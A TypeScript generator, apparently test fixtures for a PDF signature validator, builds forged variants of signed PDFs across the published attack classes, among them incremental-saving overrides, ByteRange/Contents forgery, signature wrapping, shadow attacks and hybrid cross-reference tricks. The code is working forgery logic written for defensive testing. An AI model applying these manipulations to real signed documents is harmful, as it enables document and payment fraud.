// The generator of manipulated files: every published attack class, made from a file signed with our own writer.

import {
  bodyOf,
  NUM,
  nextNumber,
  OBJECTS,
  PAGE_CONTENT,
  patch,
  PREPARED,
  stream,
  textAppearance,
  textField,
  update,
} from './base.ts';

/** Signed files to start from. */
export type Signed = {
  /** One approval signature. */
  readonly plain: Uint8Array;
  readonly certified1: Uint8Array;
  readonly certified2: Uint8Array;
  readonly certified3: Uint8Array;
  /** FieldMDP lock on the field "Vermerk". */
  readonly locked: Uint8Array;
};

export type Attack = {
  /** Attack class as published (pdf-insecurity.org). */
  readonly family:
    'ISA' | 'USF' | 'SWA' | 'shadow' | 'EAA' | 'SSA' | 'DocMDP' | 'FieldMDP' | 'spoofing' | 'parser';
  readonly name: string;
  readonly make: (signed: Signed) => Uint8Array;
  /** Object the finding has to name. */
  readonly object?: number;
};

const EVIL = stream(PAGE_CONTENT.replace('1.000', '9.000'));
const swap = (pdf: Uint8Array, num: number, from: string | RegExp, to: string): Record<number, string> => {
  const body = bodyOf(pdf, num);
  const changed = body.replace(from, to);
  if (changed === body) throw new Error(`object ${num} has no ${String(from)}`);
  return { [num]: changed };
};
const note =
  '<</Type/Annot/Subtype/FreeText/Rect[40 700 560 800]/F 4/DA(/F1 18 Tf 0 g)/Contents(9.000 EUR)/P 3 0 R>>';
const withNote = (pdf: Uint8Array): Uint8Array => {
  const num = nextNumber(pdf);
  return update(pdf, { ...swap(pdf, NUM.page1, '/Annots[', `/Annots[${num} 0 R `), [num]: note });
};
const fill = (pdf: Uint8Array, value: string, shown = value): Uint8Array => {
  const num = nextNumber(pdf);
  return update(pdf, { [NUM.textField]: textField(value, num), [num]: textAppearance(shown) });
};
/** Object number and body of the signature dictionary. */
const signatureDict = (pdf: Uint8Array): { num: number; body: string } => {
  const text = Buffer.from(pdf).toString('latin1');
  const range = text.lastIndexOf('/ByteRange');
  const start = text.lastIndexOf(' 0 obj', range);
  const num = Number(/(\d+)$/.exec(text.slice(start - 10, start))![1]);
  return { num, body: text.slice(start + 6, text.indexOf('endobj', range)).trim() };
};
const inSignature = (pdf: Uint8Array, from: RegExp, to: string): Uint8Array => {
  const { num, body } = signatureDict(pdf);
  return update(pdf, { [num]: body.replace(from, to) });
};

export const ATTACKS: readonly Attack[] = [
  // Incremental saving: the signed bytes stay, something is appended.
  {
    family: 'ISA',
    name: 'page content overwritten',
    object: NUM.contents1,
    make: ({ plain }) => update(plain, { [NUM.contents1]: EVIL }),
  },
  {
    family: 'ISA',
    name: 'page points to other content',
    object: NUM.page1,
    make: ({ plain }) => update(plain, swap(plain, NUM.page1, '/Contents 4 0 R', '/Contents 20 0 R')),
  },
  {
    family: 'ISA',
    name: 'page content extended by a second stream',
    make: ({ plain }) => update(plain, swap(plain, NUM.page1, '/Contents 4 0 R', '/Contents[4 0 R 20 0 R]')),
  },
  {
    family: 'ISA',
    name: 'page added',
    make: ({ plain }) =>
      update(plain, {
        ...swap(plain, NUM.pages, /\/Kids\[.*?\]\/Count 2/, '/Kids[3 0 R 6 0 R 19 0 R]/Count 3'),
      }),
  },
  {
    family: 'ISA',
    name: 'page removed',
    object: NUM.page2,
    make: ({ plain }) =>
      update(plain, swap(plain, NUM.pages, /\/Kids\[.*?\]\/Count 2/, '/Kids[3 0 R]/Count 1')),
  },
  {
    family: 'ISA',
    name: 'pages swapped',
    make: ({ plain }) => update(plain, swap(plain, NUM.pages, '[3 0 R 6 0 R]', '[6 0 R 3 0 R]')),
  },
  {
    family: 'ISA',
    name: 'page size changed by inheritance',
    object: NUM.pages,
    make: ({ plain }) => update(plain, swap(plain, NUM.pages, '595 842', '595 421')),
  },
  {
    family: 'ISA',
    name: 'page rotated',
    object: NUM.page2,
    make: ({ plain }) => update(plain, swap(plain, NUM.page2, '/Type/Page', '/Type/Page/Rotate 180')),
  },
  {
    family: 'ISA',
    name: 'page opened in other units',
    object: NUM.page1,
    make: ({ plain }) => update(plain, swap(plain, NUM.page1, '/Type/Page', '/Type/Page/UserUnit 4')),
  },
  {
    family: 'ISA',
    name: 'font exchanged',
    object: NUM.font,
    make: ({ plain }) => update(plain, { [NUM.font]: OBJECTS[NUM.font]!.replace('Helvetica', 'Symbol') }),
  },
  {
    family: 'ISA',
    name: 'picture put into the resources',
    make: ({ plain }) => update(plain, swap(plain, NUM.page1, '/Deck 16 0 R', '/Deck 20 0 R')),
  },
  {
    family: 'ISA',
    name: 'script on opening',
    make: ({ plain }) =>
      update(
        plain,
        swap(
          plain,
          NUM.catalog,
          '/Type/Catalog',
          '/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>',
        ),
      ),
  },
  {
    family: 'ISA',
    name: 'named script',
    make: ({ plain }) =>
      update(
        plain,
        swap(
          plain,
          NUM.catalog,
          '/Type/Catalog',
          '/Type/Catalog/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>',
        ),
      ),
  },
  {
    family: 'ISA',
    name: 'action on a page',
    make: ({ plain }) =>
      update(plain, swap(plain, NUM.page2, '/Type/Page', '/Type/Page/AA<</O<</S/JavaScript/JS(1)>>>>')),
  },
  {
    family: 'ISA',
    name: 'action of a link changed',
    object: NUM.link,
    make: ({ plain }) => update(plain, { [NUM.link]: OBJECTS[NUM.link]!.replace('/gut', '/boese') }),
  },
  {
    family: 'ISA',
    name: 'action on a field',
    make: ({ plain }) =>
      update(plain, {
        [NUM.textField]: textField('1000', NUM.textAppearance, '/AA<</K<</S/JavaScript/JS(1)>>>>'),
      }),
  },
  {
    family: 'ISA',
    name: 'attachment added',
    make: ({ plain }) =>
      update(
        plain,
        swap(
          plain,
          NUM.catalog,
          '/Type/Catalog',
          '/Type/Catalog/Names<</EmbeddedFiles<</Names[(a)<</F(a)/EF<</F 20 0 R>>>>]>>>>',
        ),
      ),
  },
  {
    family: 'ISA',
    name: 'text for screen readers changed',
    object: NUM.paragraph,
    make: ({ plain }) => update(plain, { [NUM.paragraph]: OBJECTS[NUM.paragraph]!.replace('ein', 'neun') }),
  },
  {
    family: 'ISA',
    name: 'title changed',
    make: ({ plain }) => update(plain, { [NUM.info]: '<</Title(Storno)>>' }),
  },
  {
    family: 'ISA',
    name: 'encryption added',
    make: ({ plain }) => update(plain, {}, { trailer: '/Encrypt<</Filter/Standard/V 0>>' }),
  },
  {
    family: 'ISA',
    name: 'viewer preferences added',
    make: ({ plain }) =>
      update(
        plain,
        swap(
          plain,
          NUM.catalog,
          '/Type/Catalog',
          '/Type/Catalog/ViewerPreferences<</PrintScaling/None/NumCopies 5>>',
        ),
      ),
  },
  { family: 'ISA', name: 'annotation added', make: ({ plain }) => withNote(plain) },
  {
    family: 'ISA',
    name: 'annotation removed',
    object: NUM.link,
    make: ({ plain }) => update(plain, swap(plain, NUM.page1, ' 21 0 R', '')),
  },
  {
    family: 'ISA',
    name: 'annotation moved to the top',
    make: ({ plain }) =>
      update(plain, swap(plain, NUM.page1, /\/Annots\[9 0 R (.*?)\]/, '/Annots[$1 9 0 R]')),
  },
  {
    family: 'ISA',
    name: 'form field removed',
    object: NUM.textField,
    make: ({ plain }) => update(plain, swap(plain, NUM.form, '[9 0 R ', '[')),
  },
  {
    family: 'ISA',
    name: 'form field moved',
    object: NUM.textField,
    make: ({ plain }) =>
      update(plain, { [NUM.textField]: textField('1000').replace('50 600 250 620', '50 740 550 770') }),
  },
  {
    family: 'ISA',
    name: 'form field added',
    make: ({ plain }) => {
      const num = nextNumber(plain);
      return update(plain, {
        ...swap(plain, NUM.form, '/Fields[', `/Fields[${num} 0 R `),
        ...swap(plain, NUM.page1, '/Annots[', `/Annots[${num} 0 R `),
        [num]: textField('9000').replace('(Betrag)', '(Neu)'),
      });
    },
  },
  {
    family: 'ISA',
    name: 'fields to be drawn anew',
    make: ({ plain }) =>
      update(plain, swap(plain, NUM.form, '/SigFlags 3', '/SigFlags 3/NeedAppearances true')),
  },
  {
    family: 'ISA',
    name: 'default font exchanged',
    make: ({ plain }) =>
      update(plain, swap(plain, NUM.form, '/F1 5 0 R', '/F1<</Type/Font/Subtype/Type1/BaseFont/Symbol>>')),
  },
  {
    family: 'ISA',
    name: 'empty signature field with a picture',
    make: ({ plain }) =>
      update(plain, {
        [NUM.emptySignature]: OBJECTS[NUM.emptySignature]!.replace('/F 132', '/F 132/AP<</N 16 0 R>>'),
      }),
  },
  {
    family: 'ISA',
    name: 'objects behind the end, without table',
    make: ({ plain }) => update(plain, { [NUM.contents1]: EVIL }, { withoutXref: true }),
  },
  {
    family: 'ISA',
    name: 'objects behind the end, with an end of file but no table',
    make: ({ plain }) =>
      Buffer.concat([
        update(plain, { [NUM.contents1]: EVIL }, { withoutXref: true }),
        Buffer.from('trailer\n<</Root 1 0 R>>\n%%EOF\n'),
      ]),
  },
  // Universal signature forgery: the signature itself is disabled.
  {
    family: 'USF',
    name: '/ByteRange removed',
    make: ({ plain }) => inSignature(plain, /\/ByteRange ?\[.*?\]/, ''),
  },
  {
    family: 'USF',
    name: '/ByteRange null',
    make: ({ plain }) => inSignature(plain, /\/ByteRange ?\[.*?\]/, '/ByteRange null'),
  },
  {
    family: 'USF',
    name: '/ByteRange of zeros',
    make: ({ plain }) => inSignature(plain, /\/ByteRange ?\[.*?\]/, '/ByteRange [0 0 0 0]'),
  },
  {
    family: 'USF',
    name: '/ByteRange negative',
    make: ({ plain }) => inSignature(plain, /\/ByteRange ?\[.*?\]/, '/ByteRange [0 -1 -1 -1]'),
  },
  {
    family: 'USF',
    name: '/ByteRange with two numbers',
    make: ({ plain }) => inSignature(plain, /\/ByteRange ?\[.*?\]/, '/ByteRange [0 100]'),
  },
  {
    family: 'USF',
    name: '/ByteRange far outside',
    make: ({ plain }) => inSignature(plain, /\/ByteRange ?\[.*?\]/, '/ByteRange [0 100 99999999 100]'),
  },
  {
    family: 'USF',
    name: '/Contents removed',
    make: ({ plain }) => inSignature(plain, /\/Contents ?<[0-9a-fA-F]*>/, ''),
  },
  {
    family: 'USF',
    name: '/Contents null',
    make: ({ plain }) => inSignature(plain, /\/Contents ?<[0-9a-fA-F]*>/, '/Contents null'),
  },
  {
    family: 'USF',
    name: '/Contents empty',
    make: ({ plain }) => inSignature(plain, /\/Contents ?<[0-9a-fA-F]*>/, '/Contents <>'),
  },
  {
    family: 'USF',
    name: '/Contents of zeros',
    make: ({ plain }) => inSignature(plain, /\/Contents ?<[0-9a-fA-F]*>/, '/Contents <0000>'),
  },
  // Signature wrapping: the signed bytes are moved, something else takes their place.
  {
    family: 'SWA',
    name: 'second part moved behind new objects',
    make: ({ plain }) => {
      const { num, body } = signatureDict(plain);
      const [, length, next, rest] = /\/ByteRange ?\[\s*0 +(\d+) +(\d+) +(\d+)\s*\]/.exec(body)!.map(Number);
      const changed = update(plain, { [NUM.contents1]: EVIL });
      const tail = plain.subarray(next!, next! + rest!);
      const moved = changed.length + 1;
      const wrapped = Buffer.concat([changed, Buffer.from('\n'), tail, Buffer.from('\n')]);
      return update(wrapped, {
        [num]: body.replace(/\/ByteRange ?\[.*?\]/, `/ByteRange [0 ${length} ${moved} ${rest}]`),
      });
    },
  },
  {
    family: 'SWA',
    name: 'signature copied into a second field over changed content',
    make: ({ plain }) => {
      const { body } = signatureDict(plain);
      const changed = update(plain, { [NUM.contents1]: EVIL });
      const num = nextNumber(changed);
      return update(changed, {
        [NUM.emptySignature]: OBJECTS[NUM.emptySignature]!.replace('/F 132', `/F 132/V ${num} 0 R`),
        [num]: body,
      });
    },
  },
  // Shadow attacks: prepared before signing, triggered afterwards.
  {
    family: 'shadow',
    name: 'hide: covering object freed',
    object: NUM.overlay,
    make: ({ plain }) => update(plain, {}, { free: [NUM.overlay] }),
  },
  {
    family: 'shadow',
    name: 'hide: covering object emptied',
    object: NUM.overlay,
    make: ({ plain }) =>
      update(plain, { [NUM.overlay]: stream('', '/Type/XObject/Subtype/Form/BBox[0 0 1 1]') }),
  },
  {
    family: 'shadow',
    name: 'hide: layer switched off',
    make: ({ plain }) => update(plain, swap(plain, NUM.catalog, '/ON[15 0 R]/OFF[]', '/ON[]/OFF[15 0 R]')),
  },
  {
    family: 'shadow',
    name: 'replace: field shows something else',
    object: NUM.textField,
    make: ({ plain }) => fill(plain, '1000', '9000'),
  },
  {
    family: 'shadow',
    name: 'replace: appearance overwritten in place',
    make: ({ plain }) => update(plain, { [NUM.textAppearance]: textAppearance('9000') }),
  },
  {
    family: 'shadow',
    name: 'replace: value and display differ',
    object: NUM.textField,
    make: ({ plain }) => fill(plain, '2000', '9000'),
  },
  {
    family: 'shadow',
    name: 'replace: the same text in a font of the attacker',
    object: NUM.textField,
    make: ({ plain }) => {
      const num = nextNumber(plain);
      const font =
        '<</Type/Font/Subtype/TrueType/BaseFont/Luege/FontDescriptor<</Type/FontDescriptor/FontName/Luege/Flags 32>>>>';
      return update(plain, {
        [NUM.textField]: textField('1000', num),
        [num]: textAppearance('1000').replace('/F1 5 0 R', `/F1 ${num + 1} 0 R`),
        [num + 1]: font,
      });
    },
  },
  {
    family: 'shadow',
    name: 'replace: digits drawn as curves beside invisible text',
    object: NUM.textField,
    make: ({ plain }) => {
      const num = nextNumber(plain);
      const drawn = stream(
        '/Tx BMC BT /F1 12 Tf 3 Tr 2 4 Td (2000) Tj ET 0 0 m 1 2 3 4 5 6 c f EMC',
        '/Type/XObject/Subtype/Form/BBox[0 0 200 20]/Resources<</Font<</F1 5 0 R>>>>',
      );
      return update(plain, { [NUM.textField]: textField('2000', num), [num]: drawn });
    },
  },
  {
    family: 'shadow',
    name: 'replace: a picture in the appearance of a field',
    object: NUM.textField,
    make: ({ plain }) => {
      const num = nextNumber(plain);
      const drawn = stream(
        '/P Do',
        '/Type/XObject/Subtype/Form/BBox[0 0 200 20]/Resources<</XObject<</P 16 0 R>>>>',
      );
      return update(plain, { [NUM.textField]: textField('2000', num), [num]: drawn });
    },
  },
  {
    family: 'SSA',
    name: 'signature field with a value that is no signature, and a picture',
    object: NUM.emptySignature,
    make: ({ plain }) =>
      update(plain, {
        [NUM.emptySignature]: OBJECTS[NUM.emptySignature]!.replace('/F 132', '/F 132/V(ja)/AP<</N 16 0 R>>'),
      }),
  },
  {
    family: 'SSA',
    name: 'signature field with an empty signature, and a picture',
    make: ({ plain }) =>
      update(plain, {
        [NUM.emptySignature]: OBJECTS[NUM.emptySignature]!.replace(
          '/F 132',
          '/F 132/V<</Type/Sig/SubFilter/ETSI.CAdES.detached>>/AP<</N 16 0 R>>',
        ),
      }),
  },
  {
    family: 'shadow',
    name: 'replace: check mark swapped',
    object: NUM.checkBox,
    make: ({ plain }) =>
      update(plain, { [NUM.checkBox]: OBJECTS[NUM.checkBox]!.replace('/Off 13 0 R', '/Off 12 0 R') }),
  },
  {
    family: 'shadow',
    name: 'hide and replace: hidden catalog becomes the root',
    make: ({ plain }) => update(plain, {}, { root: NUM.hiddenCatalog }),
  },
  {
    family: 'shadow',
    name: 'hide and replace: table points to prepared objects',
    object: NUM.contents1,
    make: ({ plain }) => {
      // A second definition of object 4 lies inside the signed bytes; no table of the signed file lists it.
      const at = Buffer.from(plain).toString('latin1').indexOf(`${NUM.contents1} 0 obj\n${PREPARED}`);
      return update(plain, {}, { pointTo: { [NUM.contents1]: at } });
    },
  },
  {
    family: 'parser',
    name: 'override hidden in a hybrid cross-reference stream',
    make: ({ plain }) => hybridOverride(plain),
  },
  {
    family: 'parser',
    name: 'key written twice',
    object: NUM.page2,
    make: ({ plain }) =>
      update(plain, {
        [NUM.page2]: OBJECTS[NUM.page2]!.replace('/Contents 7 0 R', '/Contents 20 0 R/Contents 7 0 R'),
      }),
  },
  {
    family: 'parser',
    name: 'hidden later definition of an object',
    make: ({ plain }) => {
      const num = nextNumber(plain);
      const padded = update(plain, { [num]: '<<>>' });
      const start = Buffer.from(padded).lastIndexOf('xref\n0 1');
      const evil = `${NUM.contents1} 0 obj\n${EVIL}\nendobj\n`;
      const text = Buffer.from(padded).toString('latin1');
      return Buffer.from(
        `${text.slice(0, start)}${evil}${text.slice(start).replace(/startxref\n\d+/, `startxref\n${start + evil.length}`)}`,
        'latin1',
      );
    },
  },
  {
    family: 'parser',
    name: 'chain leads past the signed revision',
    make: ({ plain }) => {
      // The new table lists what the signed revision had brought, but skips its section.
      const text = Buffer.from(plain).toString('latin1');
      const ends = [...text.matchAll(/startxref\s+(\d+)\s+%%EOF/g)];
      const first = ends[0]!.index + ends[0]![0].length;
      const listed = [...text.slice(first).matchAll(/(?<![0-9])(\d+) 0 obj/g)].map((one) => [
        Number(one[1]),
        first + one.index,
      ]);
      const changed = update(plain, { [NUM.contents1]: EVIL }, { pointTo: Object.fromEntries(listed) });
      const bypassed = Buffer.from(changed).toString('latin1');
      const at = bypassed.lastIndexOf('/Prev ');
      return Buffer.from(
        bypassed.slice(0, at) + bypassed.slice(at).replace(/\/Prev \d+/, `/Prev ${ends[0]![1]}`),
        'latin1',
      );
    },
  },
  // Certified documents.
  {
    family: 'DocMDP',
    name: 'P=1: field filled',
    object: NUM.textField,
    make: ({ certified1 }) => fill(certified1, '2000'),
  },
  { family: 'DocMDP', name: 'P=1: annotation', make: ({ certified1 }) => withNote(certified1) },
  { family: 'EAA', name: 'P=2: evil annotation', make: ({ certified2 }) => withNote(certified2) },
  {
    family: 'EAA',
    name: 'P=2: link changed',
    object: NUM.link,
    make: ({ certified2 }) =>
      update(certified2, { [NUM.link]: OBJECTS[NUM.link]!.replace('/gut', '/boese') }),
  },
  {
    family: 'DocMDP',
    name: 'P=2: page content',
    object: NUM.contents1,
    make: ({ certified2 }) => update(certified2, { [NUM.contents1]: EVIL }),
  },
  {
    family: 'DocMDP',
    name: 'P=3: page content',
    object: NUM.contents1,
    make: ({ certified3 }) => update(certified3, { [NUM.contents1]: EVIL }),
  },
  {
    family: 'DocMDP',
    name: 'P=3: script',
    make: ({ certified3 }) =>
      update(
        certified3,
        swap(certified3, NUM.catalog, '/Type/Catalog', '/Type/Catalog/OpenAction<</S/JavaScript/JS(1)>>'),
      ),
  },
  {
    family: 'SSA',
    name: 'P=2: sneaky signature in a new field',
    make: ({ certified2 }) => sneaky(certified2),
  },
  { family: 'SSA', name: 'signature covers the whole page', make: ({ plain }) => sneaky(plain) },
  {
    family: 'FieldMDP',
    name: 'locked field changed',
    object: NUM.lockedField,
    make: ({ locked }) => {
      const num = nextNumber(locked);
      return update(locked, {
        [NUM.lockedField]: OBJECTS[NUM.lockedField]!.replace('(fest)', '(lose)').replace(
          '26 0 R',
          `${num} 0 R`,
        ),
        [num]: textAppearance('lose'),
      });
    },
  },
  // Spoofing of what is shown about the signature, and plain damage.
  {
    family: 'spoofing',
    name: 'reason replaced',
    make: ({ plain }) => inSignature(plain, /\/Type/, '/Reason(gefaelscht)/Type'),
  },
  { family: 'spoofing', name: 'signature removed', make: ({ plain }) => doubleSignedWithout(plain) },
  {
    family: 'spoofing',
    name: 'byte of the content changed in place',
    make: ({ plain }) => patch(plain, '1.000 EUR', '9.000 EUR'),
  },
  { family: 'spoofing', name: 'signature value changed', make: ({ plain }) => flipInSignature(plain) },
];

/** A signed second field whose dictionary is a copy: over the whole page, in a new field. */
function sneaky(pdf: Uint8Array): Uint8Array {
  const { body } = signatureDict(pdf);
  const num = nextNumber(pdf);
  return update(pdf, {
    ...swap(pdf, NUM.form, '/Fields[', `/Fields[${num} 0 R `),
    ...swap(pdf, NUM.page1, '/Annots[', `/Annots[${num} 0 R `),
    [num]: `<</Type/Annot/Subtype/Widget/FT/Sig/T(Heimlich)/Rect[0 0 595 842]/F 132/P 3 0 R/AP<</N ${num + 2} 0 R>>/V ${num + 1} 0 R>>`,
    [num + 1]: body,
    [num + 2]: stream('1 g 0 0 595 842 re f', '/Type/XObject/Subtype/Form/BBox[0 0 595 842]'),
  });
}

/** The field of the only signature loses its value, and another empty field pretends to be it. */
function doubleSignedWithout(pdf: Uint8Array): Uint8Array {
  const { num } = signatureDict(pdf);
  return update(pdf, { [num]: '<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached>>' });
}

function flipInSignature(pdf: Uint8Array): Uint8Array {
  const copy = Buffer.from(pdf);
  const text = copy.toString('latin1');
  const start = text.lastIndexOf('/Contents') + text.slice(text.lastIndexOf('/Contents')).indexOf('<') + 1;
  const end = start + text.slice(start).search(/0{40}|>/);
  // The last octets of the value belong to the signature itself.
  const at = end - 12;
  copy[at] = copy[at] === 0x30 ? 0x31 : 0x30;
  return copy;
}

/** A table that says nothing new, and a stream behind it (/XRefStm) that overrides the page content. */
function hybridOverride(pdf: Uint8Array): Uint8Array {
  const old = Buffer.from(pdf).toString('latin1');
  const prev = [...old.matchAll(/startxref\s+(\d+)/g)].at(-1)![1];
  const num = nextNumber(pdf);
  let text = old;
  const evilAt = text.length;
  text += `${NUM.contents1} 0 obj\n${EVIL}\nendobj\n`;
  const streamAt = text.length;
  const entry = (offset: number): string =>
    String.fromCharCode(1, (offset >> 16) & 255, (offset >> 8) & 255, offset & 255, 0);
  const data = entry(evilAt) + entry(streamAt);
  text += `${num} 0 obj\n${stream(data, `/Type/XRef/Size ${num + 1}/W[1 3 1]/Index[${NUM.contents1} 1 ${num} 1]/Root 1 0 R`)}\nendobj\n`;
  const start = text.length;
  text += `xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size ${num + 1}/Root 1 0 R/Info 24 0 R/Prev ${prev}/XRefStm ${streamAt}>>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}
